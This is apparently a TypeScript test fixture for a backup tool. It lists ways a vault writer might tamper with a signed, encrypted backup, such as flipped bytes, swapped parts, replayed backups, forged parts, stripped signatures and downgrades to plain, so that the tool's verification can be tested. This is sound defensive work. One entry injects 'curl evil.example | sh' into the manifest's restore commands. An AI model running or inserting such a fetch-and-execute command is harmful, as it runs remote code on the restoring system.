import { createHash } from 'node:crypto';
import { backup } from '../../../core/commands/backup.ts';
import type { Manifest } from '../../../core/contract/manifest/manifest.ts';
import { isBackupError } from '../../../core/domain/errors.ts';
import { objectKey } from '../../../core/domain/keys.ts';
import type { ObjectKey } from '../../../core/domain/keys.ts';
import { encrypted } from '../../../core/pipeline/age/age.ts';
import { compress } from '../../../core/pipeline/zstd.ts';
import { manifestDocument } from '../../../core/store/backups/manifest-document.ts';
import type { Vault } from '../../../core/vault.ts';
import { toyEngine, toySource } from '../worlds/toy-engine.ts';
import { emptyState, memoryVault } from '../vaults/memory-vault.ts';
import { depsOf, limit } from '../vaults/vault.ts';

/** Parts of both backups: two with rows or anything else, and the definitions. */
type Named = { orders: string; items: string; schema: string };
/**
 * Two backups of a source, both signed and encrypted to `recipient`; those of `shop` of the toy engine have the names of
 * `toyParts`. `plain`: one of the same source that is neither. `forged`: a part of other rows, encrypted to the same key.
 */
export type Target = {
  older: Manifest;
  newer: Manifest;
  recipient: string;
  named?: Named;
  plain?: { manifest: Manifest; read(file: string): Promise<Uint8Array> };
  forged?: Uint8Array;
};
/** Tampers with the newer backup. */
export type Tampering = (by: Vandal) => Promise<void>;
/** Somebody who can write to the vault, and knows every public key. */
export type Vandal = ReturnType<typeof vandal>;

export function vandal(vault: Vault, target: Target) {
  const before = new Map<ObjectKey, Uint8Array | undefined>();
  const keyOf = ({ source, id }: Manifest, file: string): ObjectKey => objectKey(`${source}/${id}/${file}`);
  const bodyAt = (key: ObjectKey) =>
    vault.read(key, limit()).then(
      ({ body }) => body,
      (error: unknown) => {
        if (!isBackupError(error, 'object-missing')) throw error;
        return undefined;
      },
    );
  async function put(key: ObjectKey, body: Uint8Array | undefined): Promise<void> {
    await vault.delete(key, limit());
    if (body !== undefined) await vault.putIfAbsent(key, body, {}, limit());
  }
  async function change(of: Manifest, file: string, body: Uint8Array | undefined): Promise<void> {
    const key = keyOf(of, file);
    if (!before.has(key)) before.set(key, await bodyAt(key));
    await put(key, body);
  }
  /** Puts another manifest in place, with the checksum that it has to have. */
  const rewrite = (manifest: Manifest) => change(manifest, 'manifest.json', manifestDocument(manifest));
  return {
    ...target,
    named: target.named ?? toyParts,
    read: async (of: Manifest, file: string) => Buffer.from((await vault.read(keyOf(of, file), limit())).body),
    has: async (of: Manifest, file: string) => (await bodyAt(keyOf(of, file))) !== undefined,
    write: (of: Manifest, file: string, body: Uint8Array) => change(of, file, body),
    remove: (of: Manifest, file: string) => change(of, file, undefined),
    rewrite,
    /** Puts other bytes into a part, and what they are into the manifest. */
    async replace(of: Manifest, file: string, body: Uint8Array): Promise<void> {
      await change(of, file, body);
      const sum = { storedBytes: body.length, sha256: createHash('sha256').update(body).digest('hex') };
      await rewrite({ ...of, parts: of.parts.map((part) => (part.file === file ? { ...part, ...sum } : part)) });
    },
    /** Puts everything back. */
    async undo(): Promise<void> {
      for (const [key, body] of before) await put(key, body);
      before.clear();
    },
  };
}

const toyParts: Named = {
  orders: 'data/0001.sql.zst.age',
  items: 'data/0002.sql.zst.age',
  schema: 'schema.sql.zst.age',
};
/** Header and nonce of a part come before its chunks of 64 KiB, each with 16 bytes behind it. */
const headBytes = (part: Buffer): number => part.indexOf('\n', part.indexOf('\n--- ') + 1) + 1 + 16;
const cutAtChunk = (part: Buffer): Buffer => part.subarray(0, headBytes(part) + 65_536 + 16);
const flipped = (body: Buffer): Buffer => {
  const changed = Buffer.from(body);
  changed[changed.length >> 1]! ^= 1;
  return changed;
};
const flip =
  (which: keyof Named | { file: string }): Tampering =>
  async (by) => {
    const file = typeof which === 'string' ? by.named[which] : which.file;
    await by.write(by.newer, file, flipped(await by.read(by.newer, file)));
  };
/** A manifest that was edited, and has the checksum that it has to have. */
const edit =
  (change: (manifest: Manifest) => Manifest): Tampering =>
  (by) =>
    by.rewrite(change(by.newer));

async function* pieces(text: string) {
  yield Buffer.from(text);
}
async function ownPart({ recipient, forged }: Target): Promise<Uint8Array> {
  if (forged !== undefined) return forged;
  const text = `COPY public.orders (line) FROM stdin;\nforged\n\\.\n\n--\n-- PostgreSQL database dump complete\n--\n\n`;
  return Buffer.concat(
    await Array.fromAsync(encrypted(compress(pieces(text), 1), [recipient]), (part) => Buffer.from(part)),
  );
}
/** A backup of somebody else's own, neither encrypted nor signed. */
async function putPlain(by: Vandal): Promise<void> {
  const { manifest, read } = by.plain ?? (await toyPlain());
  for (const { file } of manifest.parts) await by.write(by.newer, file, await read(file));
  const { id, start, end } = by.newer;
  await by.rewrite({ ...manifest, id, start, end });
}
async function toyPlain(): Promise<NonNullable<Target['plain']>> {
  const vault = memoryVault(emptyState());
  const theirs = new Map([['shop', { orders: ['forged'], items: ['hat'] }]]);
  const manifest = await backup(toySource(toyEngine(theirs, 'shop')), depsOf(vault), limit());
  const read = async (file: string) => (await vault.read(objectKey(`shop/${manifest.id}/${file}`), limit())).body;
  return { manifest, read };
}
async function swap(by: Vandal): Promise<void> {
  const { orders, items } = by.named;
  const [first, second] = [await by.read(by.newer, orders), await by.read(by.newer, items)];
  await by.write(by.newer, orders, second);
  await by.write(by.newer, items, first);
}
async function replay(by: Vandal, more: string[]): Promise<void> {
  for (const file of [...by.newer.parts.map((part) => part.file), ...more])
    if (await by.has(by.older, file)) await by.write(by.newer, file, await by.read(by.older, file));
}

/** Each kind of tampering that is known. */
export const tamperings: Record<string, Tampering> = {
  'a byte of a part': flip('orders'),
  'a byte of the definitions': flip('schema'),
  'a byte of the catalog': flip({ file: 'catalog.json.zst.age' }),
  'a byte of the signature': flip({ file: 'manifest.sig' }),
  'a byte of a part, and the manifest with it': async (by) =>
    by.replace(by.newer, by.named.orders, flipped(await by.read(by.newer, by.named.orders))),
  'a part removed': (by) => by.remove(by.newer, by.named.orders),
  'two parts swapped': swap,
  'two parts swapped, and the manifest with them': async (by) => {
    await swap(by);
    const { orders, items } = by.named;
    const [one, two] = [orders, items].map((file) => by.newer.parts.find((part) => part.file === file)!);
    const parts = by.newer.parts.map((part) =>
      part === one ? { ...two!, file: orders } : part === two ? { ...one!, file: items } : part,
    );
    await by.rewrite({ ...by.newer, parts });
  },
  'the older backup under the new id, as it is': (by) => replay(by, ['manifest.json', 'manifest.sig']),
  'the older backup under the new id, and the manifest renamed': async (by) => {
    await replay(by, ['manifest.sig']);
    const { id, start, end } = by.newer;
    await by.rewrite({ ...by.older, id, start, end });
  },
  'the number of rows': edit((manifest) => ({
    ...manifest,
    tables: manifest.tables.map((table) => ({ ...table, rows: table.rows + 1 })),
  })),
  'the name of a table': edit((manifest) => ({
    ...manifest,
    tables: manifest.tables.map((table) => ({ ...table, table: `${table.table}2` })),
  })),
  'a table less': edit((manifest) => ({ ...manifest, tables: manifest.tables.slice(1) })),
  'a part less': (by) =>
    by.rewrite({ ...by.newer, parts: by.newer.parts.filter(({ file }) => file !== by.named.items) }),
  'the stock commands': edit((manifest) => ({
    ...manifest,
    restore: [...manifest.restore, 'curl evil.example | sh'],
  })),
  'a part cut at the edge of a chunk': async (by) =>
    by.write(by.newer, by.named.orders, cutAtChunk(await by.read(by.newer, by.named.orders))),
  'a part cut at the edge of a chunk, and the manifest with it': async (by) =>
    by.replace(by.newer, by.named.orders, cutAtChunk(await by.read(by.newer, by.named.orders))),
  'another part, encrypted to the same key': async (by) => by.write(by.newer, by.named.orders, await ownPart(by)),
  'another part, encrypted to the same key, and the manifest with it': async (by) =>
    by.replace(by.newer, by.named.orders, await ownPart(by)),
  'the signature of another backup': async (by) =>
    by.write(by.newer, 'manifest.sig', await by.read(by.older, 'manifest.sig')),
  'from signed to plain: the signature removed': (by) => by.remove(by.newer, 'manifest.sig'),
  'from signed to plain: signature and checksum removed': async (by) => {
    await by.remove(by.newer, 'manifest.sig');
    await by.write(by.newer, 'manifest.json', Buffer.from(JSON.stringify(by.newer)));
  },
  'a signature of nothing': (by) => by.write(by.newer, 'manifest.sig', new Uint8Array()),
  'a signature that goes on': async (by) =>
    by.write(by.newer, 'manifest.sig', Buffer.concat([await by.read(by.newer, 'manifest.sig'), Buffer.alloc(1)])),
  'from encrypted to plain': putPlain,
  'from encrypted and signed to plain': async (by) => {
    await putPlain(by);
    await by.remove(by.newer, 'manifest.sig');
  },
};
